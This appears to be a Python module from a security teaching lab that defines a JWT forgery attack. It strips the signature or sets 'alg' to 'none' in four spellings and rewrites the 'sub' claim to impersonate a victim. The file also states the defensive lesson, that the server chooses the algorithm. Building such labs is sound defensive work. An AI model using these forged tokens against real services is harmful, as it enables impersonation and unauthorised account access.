"""What if a token says that it needs no signature?"""

from __future__ import annotations

from collections.abc import Iterable

from lab.attacks.attack import SESSIONS, verdicts
from lab.attacks.forged.forging import Forgery, parts_of, written
from lab.attacks.person import Person
from lab.attacks.scene import Scene

SPELLINGS = ("none", "None", "NONE", "nOnE")


class DropTheSignature(Forgery):
    """`alg: none` is in the standard (RFC 7519, section 6); libraries have believed it."""

    key = "drop-the-signature"
    title = "Drop the signature (alg: none)"
    catalogue = ("A02", "A03")
    story = (
        "Mallory writes `alg: none` into the header, in four spellings, and sends no signature; "
        "then she leaves the header as it is and sends an empty one."
    )
    expected = verdicts(succeeds=("jwt-open-algorithms",), does_not_apply=SESSIONS)
    gained = "The token said that it needs no signature, and the server took its word for it."
    learned = (
        "The server decides by which algorithm a token is checked; the token has no say in it."
    )

    def forged(self, scene: Scene, mallory: Person, victim: str) -> Iterable[tuple[str, str]]:
        header, claims, _ = parts_of(mallory.access_token or "")
        claims |= {"sub": victim}
        for spelling in SPELLINGS:
            yield (
                f"`alg` is {spelling!r}, no signature.",
                written(header | {"alg": spelling}, claims, ""),
            )
            yield (
                f"`alg` is {spelling!r}, and one sign in the signature's place.",
                written(header | {"alg": spelling}, claims, "e30"),
            )
        yield "The header is as it was, the signature is empty.", written(header, claims, "")
